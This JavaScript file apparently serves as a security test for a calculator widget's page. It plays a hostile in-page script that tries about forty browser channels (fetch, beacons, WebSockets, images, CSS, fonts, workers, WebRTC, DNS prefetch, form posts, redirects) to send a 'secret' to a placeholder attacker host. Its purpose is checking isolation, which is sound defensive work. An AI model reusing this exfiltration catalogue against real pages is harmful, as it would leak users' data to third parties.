// Script inside the calculator's page that wants to send the answers away. The build of the attack fills in the addresses.
const OTHER = "@OTHER@", STUN = "@STUN@", QUIC = "@QUIC@", DNS = "@DNS@";
const to = (way) => `${OTHER}leak/page-${way}?secret=1985`;
const put = (tag, attributes) => {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  return element;
};
const link = (rel, way, more = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href: to(way), ...more }));

const ways = {
  fetch: () => fetch(to("fetch"), { mode: "no-cors" }),
  post: () => fetch(to("post"), { method: "POST", mode: "no-cors", body: "secret", keepalive: true }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("GET", to("xhr")); x.send(); },
  websocket: () => new WebSocket(to("websocket").replace("http", "ws")),
  eventsource: () => new EventSource(to("eventsource")),
  beacon: () => navigator.sendBeacon(to("beacon"), "secret"),
  image: () => { new Image().src = to("image"); },
  srcset: () => put("img", { srcset: `${to("srcset")} 1x` }),
  svgimage: () => { put("div", { innerHTML: `<svg><image href="${to("svgimage")}"/></svg>` }); },
  script: () => put("script", { src: to("script") }),
  module: () => put("script", { type: "module", src: to("module") }),
  import: () => import(to("import")),
  stylesheet: () => link("stylesheet", "stylesheet"),
  cssurl: () => { put("div", {}).style.backgroundImage = `url(${to("cssurl")})`; },
  cssimport: () => put("style", { textContent: `@import url(${to("cssimport")})` }),
  font: () => new FontFace("leak", `url(${to("font")})`).load(),
  iframe: () => put("iframe", { src: to("iframe") }),
  srcdoc: () => put("iframe", { srcdoc: `<img src="${to("srcdoc")}">` }),
  object: () => put("object", { data: to("object") }),
  embed: () => put("embed", { src: to("embed") }),
  video: () => put("video", { src: to("video"), autoplay: true }),
  audio: () => put("audio", { src: to("audio"), autoplay: true }),
  track: () => { put("video", { innerHTML: `<track default src="${to("track")}">` }); },
  preload: () => link("preload", "preload", { as: "image" }),
  prefetch: () => link("prefetch", "prefetch"),
  modulepreload: () => link("modulepreload", "modulepreload"),
  manifest: () => link("manifest", "manifest"),
  icon: () => link("icon", "icon"),
  preconnect: () => document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: OTHER })),
  "dns-prefetch": () => document.head.append(Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: `//${DNS}/` })),
  ping: () => put("a", { href: "#", ping: to("ping") }).click(),
  "blob-worker": () => new Worker(URL.createObjectURL(new Blob([`fetch("${to("blob-worker")}",{mode:"no-cors"})`]))),
  "data-worker": () => new Worker(`data:text/javascript,fetch("${to("data-worker")}",{mode:"no-cors"})`),
  "shared-worker": () => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${to("shared-worker")}",{mode:"no-cors"})`]))),
  "service-worker": () => navigator.serviceWorker.register(URL.createObjectURL(new Blob([`fetch("${to("service-worker")}")`]))),
  "form-frame": () => {
    put("iframe", { name: "leak" });
    put("form", { action: to("form-frame"), method: "post", target: "leak" }).submit();
  },
  "frame-location": () => { put("iframe", {}).contentWindow.location = to("frame-location"); },
  webrtc: async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${STUN}` }] });
    peer.createDataChannel("secret");
    await peer.setLocalDescription(await peer.createOffer());
  },
  webtransport: () => new WebTransport(`https://127.0.0.1:${QUIC}/`).ready,
};

/** Each of these ends the visit, so it gets one of its own. */
const leaving = {
  form: () => put("form", { action: to("form"), method: "post" }).submit(),
  popup: () => open(to("popup")),
  link: () => put("a", { href: to("link") }).click(),
  location: () => { location.href = to("location"); },
  refresh: () => { document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${to("refresh")}` })); },
};

const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const engine = () => document.getElementById("gt-calc")?.dataset.engine;

async function attempt(way) {
  try {
    await Promise.race([way(), pause(1500)]);
  } catch (error) {
    console.info(String(error));
  }
}

async function run() {
  const visit = new URLSearchParams(location.search).get("visit");
  if (visit in leaving) {
    await fetch(`../report?${visit}`).catch(() => undefined);
    return attempt(leaving[visit]);
  }
  for (let waited = 0; waited < 90_000 && !engine(); waited += 200) await pause(200);
  if (engine() === "ready") {
    document.getElementById("gt-calc").dispatchEvent(new CustomEvent("gt:ask", { detail: { command: "assess", text: "[{}]", answer() {} } }));
  }
  await pause(3000);
  for (const way of Object.values(ways)) void attempt(way);
  await pause(5000);
  await fetch(`../report?engine-${engine()}`).catch(() => undefined);
}

addEventListener("load", () => void run());
